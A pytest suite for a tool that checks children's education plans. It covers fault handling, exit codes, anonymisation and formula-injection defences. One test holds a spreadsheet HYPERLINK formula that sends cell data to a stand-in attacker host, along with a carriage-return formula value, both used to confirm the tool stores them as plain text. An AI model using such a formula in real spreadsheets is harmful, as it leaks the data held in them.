"""Issue 12's fault and scale probe, kept as tests: one bad file, a full or read-only disk, a second run or a
kill never costs an officer her results, nothing leaks, and every exit code is the documented one."""
from __future__ import annotations

import contextlib
import csv
import errno
import io
import json
import os
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from faults import CHILD, build_paths, build_values
from pepqa.checks.baseline import BASELINE, apply_patch
from pepqa.cli import main

TODAY = "2025-10-20"


def invoke(*args, **kw):
    return CliRunner().invoke(main, [*args], catch_exceptions=False, **kw)


def batch(*args):
    return invoke("batch", *args, "--today", TODAY, "--workers", "1", "--no-progress")


def _pep_file(folder: Path, name: str = "pep.json", patch=None) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    p = folder / name
    p.write_text(json.dumps(apply_patch(BASELINE, patch or {})), encoding="utf-8")
    return p


def _cells(xlsx: Path):
    wb = load_workbook(xlsx)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                yield ws.title, c


# -- one bad file never costs the batch; nothing leaks -------------------------------------------
def test_hostile_values_and_names_each_get_their_own_row(tmp_path):
    inbox, out = tmp_path / "inbox", tmp_path / "out"
    expect = build_values(inbox)
    r = batch(str(inbox), "--out", str(out))
    assert r.exit_code == 1, r.output  # unreadable files and findings: 1, never a traceback
    assert "Traceback" not in r.output and "\x1b" not in r.output and "\x07" not in r.output
    assert CHILD not in r.output and "Jayden" not in r.output
    for name in expect:  # no file name on the terminal without --verbose
        assert name not in r.output
    with open(out / "summary.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    by_name = {Path(row["File"]).name: row for row in rows}
    assert set(by_name) == set(expect), sorted(by_name)
    for name, (kind, words) in expect.items():
        row = by_name[name]
        assert "internal error" not in row["Could not read"], (name, row["Could not read"])
        if kind == "unreadable":
            assert row["Grade"] == "unreadable" and words in row["Could not read"], (name, row)
        else:
            assert row["Grade"] in ("Red", "Amber", "Green"), (name, row)
            if words:
                assert words in row["Top findings"], (name, row["Top findings"])
    # A carriage return never starts a new row, not even for a reader that splits on any line break.
    text = (out / "summary.csv").read_text(encoding="utf-8")
    assert "\r" not in text
    assert not any(line.startswith(("=", "+", "@")) for line in text.split("\n"))
    for sheet, c in _cells(out / "summary.xlsx"):
        assert c.data_type != "f", (sheet, c.coordinate, c.value)
        assert not (isinstance(c.value, str) and c.value.startswith("=")), (sheet, c.value)
    findings = [json.loads(x) for x in (out / "findings.jsonl").read_text(encoding="utf-8").splitlines()]
    assert findings and all(isinstance(x, dict) for x in findings)


def test_a_record_that_fails_while_being_stored_is_its_own_row(tmp_path, monkeypatch):
    """A MemoryError (or any bug) while one record is made or stored is that file's row; the rest are written.
    The workers are forked, so the patched function reaches them."""
    import pepqa.batch as B

    real = B.make_record

    def flaky(result, key, policy=None):
        if result.file.endswith("b.json"):
            raise MemoryError
        return real(result, key, policy)

    monkeypatch.setattr(B, "make_record", flaky)
    inbox = tmp_path / "in"
    for n in "abc":
        _pep_file(inbox, f"{n}.json", {"school.name": f"School {n}"})  # distinct: the cache is by content
    r = batch(str(inbox), "--out", str(tmp_path / "out"))
    assert "Traceback" not in r.output
    rows = {Path(x["File"]).name: x for x in csv.DictReader(open(tmp_path / "out" / "summary.csv", encoding="utf-8"))}
    assert rows["b.json"]["Grade"] == "unreadable" and "memory" in rows["b.json"]["Could not read"]
    assert rows["a.json"]["Grade"] != "unreadable" and rows["c.json"]["Grade"] != "unreadable"
    assert "3 files: 2 read in full, 0 partly read, 1 unreadable" in r.output


def test_check_json_output_is_valid_json_and_names_no_key(tmp_path):
    inbox = tmp_path / "v"
    build_values(inbox)
    r = invoke("check", str(inbox / "nan.json"), str(inbox / "key-is-a-name.json"), str(inbox / "negative.json"),
               "--format", "json", "--today", TODAY)
    payload = json.loads(r.stdout, parse_constant=lambda c: pytest.fail(f"{c} in JSON output"))
    assert len(payload) == 3
    assert CHILD not in r.stderr and "'(a key)'" in r.stderr  # the child's name used as a key is never quoted
    assert r.exit_code == 1  # one readable with findings, two unreadable


def test_zero_width_characters_never_hide_a_name_from_anonymising(tmp_path):
    from pepqa.batch import make_record
    from pepqa.pipeline import check_file
    from pepqa.policy import load_policy

    p = _pep_file(tmp_path, "zw.json", {"child.name": "Ja\u200bmie Sm\u2060ith",
                                        "wellbeing": "Ja\u200bmie sees the counsellor each week and it helps Jamie."})
    res = check_file(str(p), load_policy(), None)
    rec = make_record(res, b"k" * 32, load_policy())
    blob = json.dumps(rec, ensure_ascii=False)
    assert "Jamie" not in blob and "Ja\u200bmie" not in blob and "Smith" not in blob


# -- collection: nothing silently left out, no loop followed ---------------------------------------
def test_every_skipped_path_is_a_row_and_links_are_never_followed(tmp_path):
    from pepqa.batch import collect_all

    root = tmp_path / "tree"
    expect = build_paths(root)
    start = time.monotonic()
    for pattern in (str(root), str(root / "**"), str(root / "**" / "*.json")):
        col = collect_all([pattern])
        assert time.monotonic() - start < 10
        assert [f.relative_to(root).as_posix() for f in col.files] == ["a/pep.json", "elsewhere/linked.json"]
        skipped = {Path(p).relative_to(root).as_posix(): why for p, why in col.skipped}
        for rel, words in expect.items():
            if pattern.endswith("*.json") and not rel.endswith(".json") and "link" not in words:
                continue  # the pattern does not name it
            assert words in skipped.get(rel, ""), (pattern, rel, skipped)


def test_a_folder_that_cannot_be_opened_is_a_row(tmp_path, monkeypatch):
    from pepqa.batch import collect_all

    _pep_file(tmp_path / "ok")
    _pep_file(tmp_path / "locked")
    real = os.scandir

    def scandir(path="."):
        if str(path).endswith("locked"):
            raise PermissionError(errno.EACCES, "Permission denied", str(path))
        return real(path)

    monkeypatch.setattr(os, "scandir", scandir)
    col = collect_all([str(tmp_path)])
    assert [f.parent.name for f in col.files] == ["ok"]
    assert any(p.endswith("locked") and "could not be opened (permission denied)" in why for p, why in col.skipped)


def test_batch_lists_skipped_paths_and_names_a_mistyped_one(tmp_path):
    root = tmp_path / "tree"
    build_paths(root)
    r = batch(str(root), str(tmp_path / "typo-folder"), "--out", str(tmp_path / "out"))
    assert "typo-folder: no such file, folder or matching files" in r.output
    assert "6 paths skipped" in r.output
    assert "2 files: 2 read in full" in r.output
    rows = list(csv.DictReader(open(tmp_path / "out" / "summary.csv", encoding="utf-8")))
    assert sum(1 for x in rows if x["Grade"] == "skipped") == 6
    r = invoke("check", str(tmp_path / "nothing-here"))
    assert r.exit_code == 2 and "nothing-here" in r.output


# -- output folder faults: one line, exit 3, earlier outputs intact ----------------------------------
@contextlib.contextmanager
def _tmpfs(path: Path, size: str = "1m", readonly: bool = False):
    """A small tmpfs at ``path`` (root only); yields False when mounting is not permitted here."""
    path.mkdir(parents=True, exist_ok=True)
    ok = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(path)],
                        capture_output=True).returncode == 0 if hasattr(os, "geteuid") and os.geteuid() == 0 else False
    try:
        yield ok
    finally:
        if ok:
            subprocess.run(["umount", "-l", str(path)], capture_output=True)


def _fake_fault(monkeypatch, folder: Path, code: int):
    """The fake filesystem layer: every write under ``folder`` fails with ``code`` (forked workers inherit it)."""
    import builtins

    real_open, real_osopen, real_mkdir = builtins.open, os.open, os.mkdir
    inside = lambda p: str(os.fspath(p) if not isinstance(p, int) else "").startswith(str(folder))  # noqa: E731

    def fail(p):
        raise OSError(code, os.strerror(code), str(p))

    def fopen(file, mode="r", *a, **k):
        if inside(file) and any(m in mode for m in "wax+"):
            fail(file)
        return real_open(file, mode, *a, **k)

    def osopen(p, flags, *a, **k):
        if inside(p) and flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT):
            fail(p)
        return real_osopen(p, flags, *a, **k)

    def mkdir(p, *a, **k):
        if inside(p) and not os.path.isdir(p):
            fail(p)
        return real_mkdir(p, *a, **k)

    monkeypatch.setattr(builtins, "open", fopen)
    monkeypatch.setattr(os, "open", osopen)
    monkeypatch.setattr(os, "mkdir", mkdir)


def test_output_under_a_regular_file_is_one_line_and_exit_3(tmp_path):
    inbox = tmp_path / "in"
    _pep_file(inbox)
    (tmp_path / "afile").write_text("x")
    for cmd in (["batch", str(inbox), "--today", TODAY, "--workers", "1", "--no-progress"],
                ["letters", str(inbox / "pep.json")], ["render", str(inbox / "pep.json")], ["moderate", str(inbox)]):
        for out in (tmp_path / "afile", tmp_path / "afile" / "sub"):
            r = invoke(*cmd, "--out", str(out))
            assert r.exit_code == 3, (cmd, r.output)
            assert "not a folder" in r.output and "Traceback" not in r.output
            assert len(r.output.strip().splitlines()) <= 2, r.output


def test_read_only_output_folder(tmp_path, monkeypatch):
    inbox, out = tmp_path / "in", tmp_path / "ro"
    _pep_file(inbox)
    with _tmpfs(out) as mounted:
        if mounted:
            subprocess.run(["mount", "-o", "remount,ro", str(out)], check=True)
        else:
            _fake_fault(monkeypatch, out, errno.EROFS)
        for cmd in (["batch", str(inbox), "--today", TODAY, "--workers", "1", "--no-progress"],
                    ["letters", str(inbox / "pep.json")], ["render", str(inbox / "pep.json")],
                    ["render", str(inbox / "pep.json"), "--redact"], ["moderate", str(inbox)]):
            r = invoke(*cmd, "--out", str(out))
            assert r.exit_code == 3, (cmd, r.output)
            assert "read-only" in r.output and "Traceback" not in r.output, r.output
        r = invoke("batch", str(inbox), "--out", str(out / "new"), "--anonymise", "--no-progress")
        assert r.exit_code == 3 and "read-only" in r.output


def test_full_disk_keeps_the_earlier_reports(tmp_path, monkeypatch):
    inbox, out = tmp_path / "in", tmp_path / "full"
    for n in range(3):
        _pep_file(inbox, f"p{n}.json", {"school.name": f"School {n}"})
    with _tmpfs(out, "600k") as mounted:
        r = batch(str(inbox), "--out", str(out))
        assert r.exit_code == 0, r.output
        before = (out / "summary.csv").read_bytes()
        if mounted:  # fill the disk
            with open(out / "filler", "wb") as f, contextlib.suppress(OSError):
                while True:
                    f.write(b"\0" * 65536)
                    f.flush()
        else:
            _fake_fault(monkeypatch, out, errno.ENOSPC)
        r = batch(str(inbox), "--out", str(out), "--force")
        assert r.exit_code == 3, r.output
        assert "disk full" in r.output and "Traceback" not in r.output
        assert (out / "summary.csv").read_bytes() == before
        assert not [p for p in out.rglob("*.part")]


# -- concurrent runs ----------------------------------------------------------------------------------
def test_a_second_run_waits_then_says_who_holds_the_folder(tmp_path, monkeypatch):
    import pepqa.outdir as O

    inbox, out = tmp_path / "in", tmp_path / "out"
    _pep_file(inbox)
    out.mkdir()
    live_part = out / ".summary.csv.abc123.part"  # the first run's temp file: a second run must not touch it
    monkeypatch.setattr(O, "LOCK_WAIT", 0.5)
    with O.locked(out, what="batch"):
        live_part.write_text("half")
        r = batch(str(inbox), "--out", str(out))
        assert r.exit_code == 3, r.output
        assert "busy" in r.output and f"process {os.getpid()}" in r.output
        assert live_part.exists()
    # once the first run finishes, the next one starts (and clears what a killed run left)
    monkeypatch.setattr(O, "LOCK_WAIT", 5.0)
    holder = O.locked(out, what="batch")
    holder.__enter__()
    threading.Timer(0.5, lambda: holder.__exit__(None, None, None)).start()
    r = batch(str(inbox), "--out", str(out))
    assert r.exit_code == 0 and "reports written" in r.output, r.output
    assert not live_part.exists()


# -- letters, render ---------------------------------------------------------------------------------
def test_letters_survive_a_long_title_and_resume(tmp_path):
    inbox, out = tmp_path / "in", tmp_path / "out"
    _pep_file(inbox, "a.json", {"school.name": "School A"})
    _pep_file(inbox, "b.json", {"child.name": "M" + "a" * 300 + " Smith"})  # the letter's title: over 255 characters
    r = batch(str(inbox), "--out", str(out), "--letters")
    assert "Traceback" not in r.output and "2 letters in letters/" in r.output, r.output
    letters = sorted(p.name for p in (out / "letters").iterdir() if not p.name.startswith("."))
    assert letters == ["a-letter.docx", "a-letter.pdf", "b-letter.docx", "b-letter.pdf"]
    stamp = {p: p.stat().st_mtime_ns for p in (out / "letters").iterdir() if not p.name.startswith(".")}
    r = batch(str(inbox), "--out", str(out), "--letters")
    assert "2 letters" in r.output
    assert {p: p.stat().st_mtime_ns for p in stamp} == stamp, "unchanged records keep their letters"
    _pep_file(inbox, "a.json", {"school.name": "School A", "pupil_voice.text": "No pupil views shared"})
    batch(str(inbox), "--out", str(out), "--letters")
    assert (out / "letters" / "a-letter.pdf").stat().st_mtime_ns != stamp[out / "letters" / "a-letter.pdf"]
    assert (out / "letters" / "b-letter.pdf").stat().st_mtime_ns == stamp[out / "letters" / "b-letter.pdf"]


def test_render_never_overwrites_another_inputs_output(tmp_path):
    a = _pep_file(tmp_path / "x", "same.json")
    b = _pep_file(tmp_path / "y", "same.json", {"child.name": "M" + "a" * 300 + " Smith"})  # title over 255 characters
    r = invoke("render", str(a), str(b), "--out", str(tmp_path / "out"))
    assert r.exit_code == 0, r.output
    names = sorted(p.name for p in (tmp_path / "out").iterdir() if not p.name.startswith("."))
    assert names == ["same-clean-2.docx", "same-clean-2.pdf", "same-clean.docx", "same-clean.pdf"]


# -- policy and data files: one line naming the key --------------------------------------------------
@pytest.mark.parametrize("toml,words", [
    ("[pp_plus]\ntermly_amount = -600", "pp_plus.termly_amount"),
    ("[pp_plus]\ntermly_amount = nan", "pp_plus.termly_amount"),
    ("[grading]\nresubmit_within_days = 100000000", "grading.resubmit_within_days"),
    ('[grading]\nwithhold_on = "sometimes"', "grading.withhold_on"),
    ('[timeliness]\nautumn_term_starts = "13-45"', "timeliness.autumn_term_starts"),
    ('[timeliness]\nschool_closures = ["2025-10-27..2025-10-20"]', "timeliness.school_closures"),
    ('[data]\nlabels_file = "/dev/zero"', "not a regular file"),
    ('[data]\nlabels_file = "LABELS"', "must be a list of words"),
    ('[data]\nvocab_dir = "VOCAB"', "voice.toml"),
    ('[data]\nvocab_dir = "/no/such/folder"', "data.vocab_dir"),
    ('[authority]\nlogo = "/dev/zero"', "not a regular file"),
    ('[checks]\ndisable = ["pv999"]', "unknown check 'PV999'"),
])
def test_a_bad_policy_value_is_one_line_naming_it(tmp_path, toml, words):
    (tmp_path / "labels.toml").write_text("[parts]\npupil_voice = [1, 2]\n")
    (tmp_path / "vocab").mkdir()
    (tmp_path / "vocab" / "voice.toml").write_text('unacceptable = "not a list"\n')
    pol = tmp_path / "pepqa.toml"
    pol.write_text(toml.replace("LABELS", str(tmp_path / "labels.toml")).replace("VOCAB", str(tmp_path / "vocab")))
    _pep_file(tmp_path)
    r = invoke("check", str(tmp_path / "pep.json"), "--policy", str(pol))
    assert r.exit_code == 2, r.output
    assert words in r.output and "Traceback" not in r.output and len(r.output.strip().splitlines()) <= 2, r.output


def test_check_codes_in_the_policy_are_case_insensitive(tmp_path):
    from pepqa.checks import run_checks
    from pepqa.model import PEP
    from pepqa.policy import load_policy

    pol = tmp_path / "p.toml"
    pol.write_text('[checks]\ndisable = ["pp013"]\n[checks.severity]\npp008 = "Advice"\n')
    pep = PEP.model_validate(apply_patch(BASELINE, {"pp_spend[0].cost": -5.0}))
    codes = {f.code: f.severity.value for f in run_checks(pep, load_policy(pol), None)}
    assert "PP013" not in codes
    assert "PP013" in {f.code for f in run_checks(pep, load_policy(), None)}
    assert codes.get("PP008", "advice") == "advice"


def test_the_cache_key_follows_the_data_files_and_version(tmp_path, monkeypatch):
    from pepqa.datafiles import data_fingerprint
    from pepqa.policy import load_policy

    (tmp_path / "vocab").mkdir()
    voice = tmp_path / "vocab" / "voice.toml"
    voice.write_text('unacceptable = ["naughty"]\n')
    pol = tmp_path / "p.toml"
    pol.write_text(f'[data]\nvocab_dir = "{tmp_path / "vocab"}"\n')
    first = data_fingerprint(load_policy(pol))
    voice.write_text('unacceptable = ["naughty", "stroppy"]\n')
    assert data_fingerprint(load_policy(pol)) != first
    import pepqa.datafiles as D

    now = data_fingerprint(load_policy(pol))
    monkeypatch.setattr(D, "__version__", "9.9.9")
    assert data_fingerprint(load_policy(pol)) != now
    monkeypatch.undo()
    inbox = tmp_path / "in"
    _pep_file(inbox)
    r1 = batch(str(inbox), "--out", str(tmp_path / "out"), "--policy", str(pol))
    voice.write_text('unacceptable = ["naughty", "stroppy", "moody"]\n')
    r2 = batch(str(inbox), "--out", str(tmp_path / "out"), "--policy", str(pol))
    assert "0 unchanged since last run" in r1.output and "0 unchanged since last run" in r2.output


# -- exit codes, interrupts, crashes -------------------------------------------------------------------
def test_exit_codes_follow_the_documented_scheme(tmp_path):
    good = _pep_file(tmp_path, "good.json")
    bad = tmp_path / "bad.json"
    bad.write_text("{not json")
    assert invoke("check", str(good), str(bad), "--fail-on", "never").exit_code == 0
    assert invoke("check", str(good), str(bad)).exit_code == 1       # an unreadable file counts
    assert invoke("check", str(bad), "--fail-on", "never").exit_code == 2  # nothing readable
    assert invoke("check", str(bad)).exit_code == 2
    out = tmp_path / "out"
    assert batch(str(good), str(bad), "--out", str(out)).exit_code == 1
    assert batch(str(bad), "--out", str(out)).exit_code == 2
    assert batch(str(good), str(bad), "--out", str(out), "--fail-on", "never").exit_code == 0
    assert "3 the output folder cannot be written" in invoke("--help").output


def test_ctrl_c_in_letters_exits_130(tmp_path, monkeypatch):
    import pepqa.render.letters as L

    def interrupted(*a, **k):
        raise KeyboardInterrupt

    monkeypatch.setattr(L, "write_letter", interrupted)
    _pep_file(tmp_path / "in")
    r = batch(str(tmp_path / "in"), "--out", str(tmp_path / "out"), "--letters")
    assert r.exit_code == 130 and "interrupted" in r.output and "Aborted" not in r.output


def test_an_unexpected_error_is_one_line_and_a_log_without_names(tmp_path, monkeypatch):
    import pepqa.outputs as O
    from pepqa.cli import run

    def boom(*a, **k):
        raise ValueError(f"cannot format {CHILD}'s plan in {tmp_path}/secret-name.json")

    monkeypatch.setattr(O, "write_outputs", boom)
    _pep_file(tmp_path / "in")
    out = tmp_path / "out"
    monkeypatch.setattr(sys, "argv", ["pepqa", "batch", str(tmp_path / "in"), "--out", str(out), "--no-progress",
                                      "--workers", "1"])
    err = io.StringIO()
    monkeypatch.setattr(sys, "stderr", err)
    with pytest.raises(SystemExit) as e:
        run()
    assert e.value.code == 2
    lines = err.getvalue().strip().splitlines()
    assert lines[-1].startswith("pepqa: internal error (ValueError); please report it with the log ")
    assert CHILD not in err.getvalue() and "secret-name" not in err.getvalue()
    log = Path(lines[-1].rsplit(" ", 1)[1])
    assert log.parent == out and log.is_file()
    text = log.read_text()
    assert "ValueError" in text and "cli.py" in text
    assert CHILD not in text and "secret-name" not in text


def test_workers_die_with_a_killed_parent(tmp_path):
    inbox = tmp_path / "in"
    for n in range(30):
        _pep_file(inbox, f"p{n:02d}.json", {"school.name": f"School {n}"})
    proc = subprocess.Popen([sys.executable, "-m", "pepqa.cli", "batch", str(inbox), "--out", str(tmp_path / "out"),
                             "--workers", "2", "--no-progress"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    children: list[int] = []
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and not children:
        time.sleep(0.2)
        with contextlib.suppress(OSError):
            children = [int(c) for t in os.listdir(f"/proc/{proc.pid}/task")
                        for c in open(f"/proc/{proc.pid}/task/{t}/children").read().split()]
    assert children, "the batch started workers"
    time.sleep(1.0)
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    time.sleep(2.0)
    alive = [c for c in children if os.path.exists(f"/proc/{c}") and
             open(f"/proc/{c}/stat").read().split()[2] != "Z"]
    assert not alive, f"workers still running after the parent was killed: {alive}"


# -- progress ------------------------------------------------------------------------------------------
def test_progress_has_no_eta_before_work_and_no_speed_from_a_resume():
    from pepqa.batch import Progress

    s = io.StringIO()
    bar = Progress(stream=s, force=True)
    bar(168, 208, 0.0)  # resumed: 168 already done
    assert "ETA --:--" in s.getvalue() and "--/s" in s.getvalue()
    bar.t0 -= 10  # ten seconds later, 10 more done: 1 file/s, 30 left
    bar.last = 0
    bar(178, 208, 10.0)
    assert "1.0/s" in s.getvalue() and "ETA 0:30" in s.getvalue()
    bar.start("letters")
    bar(0, 5)
    assert s.getvalue().rstrip().splitlines()[-1].lstrip("\r").startswith("letters") or "letters" in s.getvalue()


def test_moderation_decisions_hold_evidence_as_text_never_formulas(tmp_path):
    from pepqa.render.moderation import write_decisions

    evil = '=HYPERLINK("http://evil.invalid/?"&B2&C2,"click")'
    pack = {"rows": [["EX1", "PV002", "C-1234", evil, "\r=1+1", None, None]], "date_text": "1 December 2026",
            "seed": 0, "per_check": 3, "readable": 1, "unreadable": 0}
    write_decisions(tmp_path / "decisions.xlsx", pack)
    cells = list(_cells(tmp_path / "decisions.xlsx"))
    assert any("HYPERLINK" in str(c.value) for _, c in cells)
    for sheet, c in cells:
        assert c.data_type != "f" and not str(c.value or "").startswith("="), (sheet, c.value)


def test_check_gives_each_file_the_time_limit(tmp_path, monkeypatch):
    import pepqa.guard as G
    import pepqa.pipeline as P

    real = P.check_file

    def slow(path, *a, **k):
        if path.endswith("slow.json"):
            time.sleep(30)
        return real(path, *a, **k)

    monkeypatch.setattr(P, "check_file", slow)
    fast, slow_file = _pep_file(tmp_path, "fast.json"), _pep_file(tmp_path, "slow.json")
    invoke("check", str(fast), "--today", TODAY)  # warm: spaCy and the checks loaded
    monkeypatch.setattr(G, "SECONDS", 3)
    start = time.monotonic()
    r = invoke("check", str(slow_file), str(fast), "--today", TODAY)
    assert time.monotonic() - start < 20
    assert r.output.count("longer than the 3 s limit") == 2 and r.exit_code == 1, r.output  # report + one line


def test_a_pep_with_thousands_of_rows_is_refused_as_not_one_pep(tmp_path):
    rows = [{"number": i, "text": f"Target {i}"} for i in range(5000)]
    p = _pep_file(tmp_path, "rows.json", {"targets": rows})
    r = invoke("check", str(p))
    assert r.exit_code == 2 and "5,000 rows" in r.output, r.output


def test_a_resumed_run_says_so(tmp_path):
    inbox, out = tmp_path / "in", tmp_path / "out"
    _pep_file(inbox, "a.json")
    batch(str(inbox), "--out", str(out))
    _pep_file(inbox, "b.json", {"school.name": "Another School"})
    r = batch(str(inbox), "--out", str(out), "--letters")
    assert "resuming: 1 of 2 already done" in r.output
    assert "2 letters in letters/" in r.output and "1 unchanged since last run" in r.output


def test_the_memory_limit_is_per_file_and_lifted_after(tmp_path):
    import resource

    from pepqa.guard import guarded

    before = resource.getrlimit(resource.RLIMIT_AS)
    seen = []
    got, why = guarded(lambda: seen.append(resource.getrlimit(resource.RLIMIT_AS)[0]) or 1, memory_mb=3000)
    assert got == 1 and why is None and seen[0] <= 3000 * 1024 * 1024
    assert resource.getrlimit(resource.RLIMIT_AS) == before
    got, why = guarded(lambda: bytearray(600 * 1024 * 1024), memory_mb=512)
    assert got is None and "512 MB memory limit" in why
    assert resource.getrlimit(resource.RLIMIT_AS) == before
